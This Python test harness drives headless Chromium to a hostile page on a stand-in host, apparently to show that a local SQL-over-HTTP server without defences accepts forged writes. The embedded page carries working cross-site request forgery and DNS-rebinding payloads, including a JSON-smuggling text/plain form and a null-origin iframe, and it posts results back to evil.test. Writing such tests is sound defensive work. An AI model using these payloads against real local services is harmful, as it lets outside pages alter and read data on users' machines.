"""A real browser at a page that means harm: a page of another site, and one whose name was rebound to this host.

The pages are served by `Site`, which also takes down what reaches it: it is the server without any defence that shows
that each attack is one.
"""

from __future__ import annotations

import base64
import json
import os
import queue
import shutil
import signal
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit

CHROMIUM = shutil.which("chromium")
EVIL = "evil.test"
FLAGS = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
         "--disable-features=LocalNetworkAccessChecks,HttpsUpgrades,HttpsFirstBalancedModeAutoEnable",
         f"--host-resolver-rules=MAP {EVIL} 127.0.0.1")
REPORT_S = 120

PAGE = """<!doctype html><title>evil</title><script>
const asked = new URLSearchParams(location.search), target = asked.get("target"), done = [];
const sql = n => JSON.stringify({sql: `INSERT INTO hits VALUES (${n})`});
async function tried(name, what) {
  try { const r = await what(); done.push([name, r.type, r.status, r.type == "opaque" ? "" : await r.text()]); }
  catch (e) { done.push([name, "error", 0, String(e)]); }
}
const post = (n, more, path = "/sql") => fetch(target + path, {method: "POST", body: sql(n), ...more});
function framed(make) {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    make(frame);
    frame.onload = () => setTimeout(() => resolve({type: "form", status: 0, text: async () => ""}), 0);
    document.body.append(frame);
  });
}
function form(n) {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.name = "form" + n;
    document.body.append(frame);
    const f = document.createElement("form"), i = document.createElement("input");
    Object.assign(f, {method: "POST", action: target + "/sql", enctype: "text/plain", target: frame.name});
    Object.assign(i, {name: `{"sql": "INSERT INTO hits VALUES (${n})", "parameters": [], "x`, value: `": 1}`});
    f.append(i);
    document.body.append(f);
    frame.onload = () => resolve({type: "form", status: 0, text: async () => ""});
    f.submit();
  });
}
async function cross() {
  const plain = {mode: "no-cors", headers: {"Content-Type": "text/plain"}};
  await tried("text/plain", () => post(1, plain));
  await tried("no type", () => post(2, {mode: "no-cors", body: new Blob([sql(2)])}));
  await tried("JSON", () => post(3, {headers: {"Content-Type": "application/json"}}));
  await tried("form", () => form(4));
  await tried("no origin", () => framed(f => {
    f.sandbox = "allow-scripts";
    f.srcdoc = `<script>fetch("${target}/sql", {method: "POST", mode: "no-cors", body: '${sql(5)}'})` +
               `.finally(() => { location = "about:blank"; })</` + `script>`;
  }));
  await tried("a type among others", () => post(6, {mode: "no-cors", headers: {"Content-Type":
    "text/plain; application/json"}}));
  await tried("reading", () => fetch(target + "/views"));
}
async function rebound() {
  await tried("JSON", () => post(11, {headers: {"Content-Type": "application/json"}}));
  await tried("text/plain", () => post(12, {headers: {"Content-Type": "text/plain"}}));
  await tried("form", () => form(13));
  await tried("reading", () => fetch(target + "/views"));
}
onload = async () => {
  await (asked.get("kind") == "cross" ? cross() : rebound());
  await fetch(asked.get("report") + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify(done)});
};
</script><body></body>"""


class Site:
    """A web server that gives the page to whoever asks, and takes everything that is posted."""

    def __init__(self) -> None:
        self.posted: list[tuple[str, str]] = []
        self.reports: queue.Queue[list[list[Any]]] = queue.Queue()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(PAGE if urlsplit(self.path).path == "/page" else "[]")

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"])).decode()
                if urlsplit(self.path).path == "/report":
                    site.reports.put(json.loads(body))
                else:
                    site.posted.append((self.path, body))
                self._answer("{}")

            def _answer(self, text: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(text.encode())))
                self.end_headers()
                self.wfile.write(text.encode())

            def log_message(self, format: str, *args: object) -> None:
                """Nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self._server.server_address[1])
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def __enter__(self) -> Site:
        return self

    def __exit__(self, *error: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(10)


def attack(site: Site, kind: str, port: int, profile: Path) -> list[list[Any]]:
    """What a page did to the server at that port of this host: [attack, type of answer, status, text].

    kind: "cross" is a page of another site; "rebound" one of the server's own port under a name of the attacker's,
    which meant the attacker's host when the page came (here: a proxy) and means this one from then on.
    """
    assert CHROMIUM is not None
    host = "127.0.0.1" if kind == "cross" else EVIL
    place = site.port if kind == "cross" else port
    query = urlencode({"kind": kind, "target": f"http://{host}:{port}", "report": f"http://{EVIL}:{site.port}"})
    rule = f"""function FindProxyForURL(url, host) {{
        return url.includes(":{port}/page?") ? "PROXY 127.0.0.1:{site.port}" : "DIRECT"; }}"""
    pac = "data:application/x-ns-proxy-autoconfig;base64," + base64.b64encode(rule.encode()).decode()
    browser = subprocess.Popen(
        [CHROMIUM, *FLAGS, f"--user-data-dir={profile}", f"--proxy-pac-url={pac}", "--remote-debugging-port=0",
         f"http://{EVIL}:{place}/page?{query}"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        return site.reports.get(timeout=REPORT_S)
    finally:
        os.killpg(browser.pid, signal.SIGKILL)  # its own group: the browser's processes and nothing else
        browser.wait()
